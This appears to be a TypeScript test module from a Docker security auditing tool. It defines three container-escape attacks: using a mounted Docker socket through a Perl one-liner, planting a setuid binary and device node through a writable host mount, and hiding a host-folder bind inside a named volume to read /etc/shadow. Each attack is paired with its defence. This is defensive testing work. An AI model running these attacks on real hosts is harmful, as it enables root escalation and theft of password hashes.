import { Refusal, type Attack } from '../attack.ts'
import { ask } from '../stage/ask.ts'
import { proof, run } from '../stage/containers.ts'
import { ownerOf, runAsNobody } from '../stage/host.ts'

const USER = 'anyone who may create containers, or breaks into one with such a mount'
const BY_USERNS = 'user namespaces'
const NO_USERNS = 'dockerd runs without user namespaces'

/** Sends one request over the socket. Perl needs no module for that. */
const ASK_SOCKET = `/usr/bin/perl -e '
socket(my $s, 1, 1, 0);
connect($s, pack("S a108", 1, "/var/run/docker.sock")) or print("connect: $!\\n"), exit;
syswrite $s, "POST /volumes/create HTTP/1.0\\r\\nContent-Type: application/json\\r\\nContent-Length: 25\\r\\n\\r\\n{\\"Name\\":\\"from-container\\"}";
print while <$s>'`

/** Attacks from a container that has something of the host. */
export const CONTAINERS: readonly Attack[] = [
  {
    id: 'docker-socket',
    title: 'A container with the Docker socket controls the daemon',
    attacker: USER,
    setup: 'plain',
    wrong: `a container has \`/var/run/docker.sock\`, and ${NO_USERNS}`,
    how: "The socket gives access to the whole API, without a login. Mounting it with `:ro` doesn't help: a read-only mount doesn't stop programs from sending over a socket.",
    attempt: async ({ user, local, socketPath }) => {
      const hostConfig = { Binds: [`${socketPath}:/var/run/docker.sock:ro`] }
      const line = proof(await run(user, { name: 'docker-socket', script: ASK_SOCKET, hostConfig }), '201 Created')
      await ask(local, { path: '/volumes/from-container' })
      return `a container created a volume of the host: ${line}`
    },
    refusal: /^connect: Permission denied$/,
    stoppedBy: BY_USERNS,
    defence:
      'With user namespaces, root in the container is an unprivileged user on the host, who may not open the socket.',
    remains:
      "A container with `--userns=host` can still use the socket. Mount it into no container that you wouldn't give root on the host.",
    signs: [
      { check: 'D-USERNS', ours: 'pass' },
      { check: 'C-SOCK', ours: 'warn' },
    ],
  },
  {
    id: 'host-folder',
    title: 'A container leaves a setuid program on the host',
    attacker: USER,
    setup: 'plain',
    wrong: `a container has a folder of the host, writable, and ${NO_USERNS}`,
    how: 'Root in the container is root on the host, so its files there belong to root. Any user of the host who starts its setuid program is root. With a device that it creates, they could read a disk.',
    attempt: async ({ user, host }) => {
      const to = '/host/var/tmp'
      // The device is /dev/null: a disk would do as well.
      const script = `cp /host/usr/bin/cat ${to}/cat && chmod 4755 ${to}/cat; mknod -m 666 ${to}/null c 1 3 && echo device`
      const output = await run(user, { name: 'host-folder', script, hostConfig: { Binds: ['/:/host'] } })
      const owner = await ownerOf(host, 'var/tmp/cat')
      const read = await runAsNobody(host, 'var/tmp/cat', 'etc/shadow')
      if (!read.includes(host.canary)) throw new Refusal(`user ${owner} owns the program: ${read}; ${output}`)
      proof(output, 'device')
      return `created a device, and an unprivileged user read /etc/shadow: ${read}`
    },
    refusal: /^user 100000 owns the program: .*Permission denied; mknod: .*Operation not permitted/,
    stoppedBy: BY_USERNS,
    defence:
      'With user namespaces, the files belong to a user without rights, and the kernel refuses to create devices.',
    remains:
      'The container can still read what every user of the host may read, and write where every user may write. Mount no such folders as `/`, `/etc` and `/home`.',
    signs: [
      { check: 'D-USERNS', ours: 'pass' },
      { check: 'C-HOSTDIR', ours: 'warn' },
    ],
  },
  {
    id: 'hidden-bind',
    title: 'A named volume hides a folder of the host',
    attacker: 'anyone who may create volumes and containers, even if bind mounts are forbidden',
    setup: 'plain',
    wrong: NO_USERNS,
    how: 'A volume of the driver `local` can be a bind mount itself: `-o type=none -o o=bind -o device=/etc`. The request for the container then names only the volume, so a filter for bind mounts sees nothing. Root in the container reads `/etc/shadow`.',
    attempt: async ({ user, host }) => {
      const DriverOpts = { type: 'none', o: 'bind', device: '/etc' }
      await ask(user, { method: 'POST', path: '/volumes/create', body: { Name: 'config', DriverOpts } })
      const hostConfig = { Binds: ['config:/config'] }
      const output = await run(user, { name: 'hidden-bind', script: 'cat /config/shadow', hostConfig })
      return `read /etc/shadow of the host: ${proof(output, host.canary)}`
    },
    refusal: /Permission denied$/,
    stoppedBy: BY_USERNS,
    defence: 'With user namespaces, root in the container may read only what every user of the host may read.',
    remains:
      'The container can still read what every user of the host may read. So [C-VOLBIND](checks/C-VOLBIND.md) also fails with user namespaces. Remove such volumes.',
    signs: [
      { check: 'D-USERNS', ours: 'pass' },
      { check: 'C-VOLBIND', ours: 'fail' },
    ],
  },
]
